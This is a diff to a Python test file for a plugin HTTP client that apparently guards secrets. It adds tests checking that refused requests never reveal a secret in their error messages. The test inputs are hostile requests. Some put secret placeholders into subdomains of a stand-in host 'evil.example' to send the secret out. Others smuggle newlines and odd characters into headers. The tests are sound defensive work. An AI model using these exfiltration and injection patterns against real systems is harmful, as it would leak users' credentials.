@@ -8,7 +8,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from nexus_marketing.config import rehearse
-from nexus_marketing.core.errors import ConfigurationError, HostRefused, ValidationError
+from nexus_marketing.core.errors import ConfigurationError, HostRefused, NexusError, ValidationError
 from nexus_marketing.plugin import Answer, Capability, NotGranted, OverRate, Request
 from nexus_marketing.plugin.granted import Grant, GrantedHttp, grant_for
 from nexus_marketing.plugin.http import HttpClient, HttpLimits
@@ -105,6 +105,47 @@ def test_secrets_are_filled_in_on_the_way_out_and_are_not_shown() -> None:
     with pytest.raises(NotGranted, match=r"has no secret 'other': write nexus-x:other=VALUE into nexus.plugins.secret"):
         http.send(Request("GET", "https://slack.com/{secret:other}"))
     assert "xoxb" not in repr(http) + repr(Grant((), {"a": "xoxb"})) + repr(PluginSettings(secrets=("x:a=xoxb",)))
+
+
+@pytest.mark.parametrize(
+    ("url", "headers"),
+    [
+        ("https://{secret:token}.evil.example/", {}),
+        ("https://evil.example@{secret:token}/", {}),
+        ("{secret:token}.evil.example/", {}),
+        ("{secret:hook}.evil.example/", {}),
+        ("https://slack.com/", {"x": "{secret:token}\n"}),
+        ("https://slack.com/", {"x": " {secret:token}"}),
+        ("https://slack.com/", {"x": "{secret:token}\u00e9"}),
+        ("https://slack.com/", {"x\u00e9": "{secret:token}"}),
+        ("https://slack.com/\n{secret:token}", {}),
+    ],
+)
+def test_no_refusal_says_a_secret(url: str, headers: dict[str, str]) -> None:
+    """What is refused is told to the plugin, which must not learn a secret by being refused."""
+    with HttpServer() as server:
+        nowhere = [(2, 1, 6, "", ("127.0.0.1", server.port))]
+        limits = HttpLimits(allow_hosts=("slack.com", "*.example"))
+        client = HttpClient(limits, resolver=lambda *_: nowhere)
+        grant = Grant(("slack.com",), {"token": "c4nary-815", "hook": "https://c4nary-815"})
+        http = GrantedHttp("nexus-x", grant, lambda: client, lambda: 0.0)
+        for scheme in ("https", "http"):
+            with pytest.raises(NexusError) as refused:
+                http.send(Request("GET", url.replace("https://slack.com", f"{scheme}://slack.com"), headers))
+            assert "c4nary" not in f"{refused.value!r} {refused.value.message} {refused.value.problems}".lower()
+        client.close()
+    assert server.heard == []
+
+
+def test_no_refusal_of_a_request_says_what_is_in_it() -> None:
+    with HttpServer() as server:
+        client = HttpClient(HttpLimits(allow_hosts=(server.allowed,)))
+        for value in ("c4nary-815\n", "c4nary-815\u00e9", "c4nary-815\x00"):
+            with pytest.raises(ValidationError, match=r"headers\.x") as refused:
+                client.send(Request("GET", server.url, {"x": value}))
+            assert "c4nary" not in str(refused.value)
+        client.close()
+    assert server.heard == []
 
 
 @pytest.mark.parametrize(
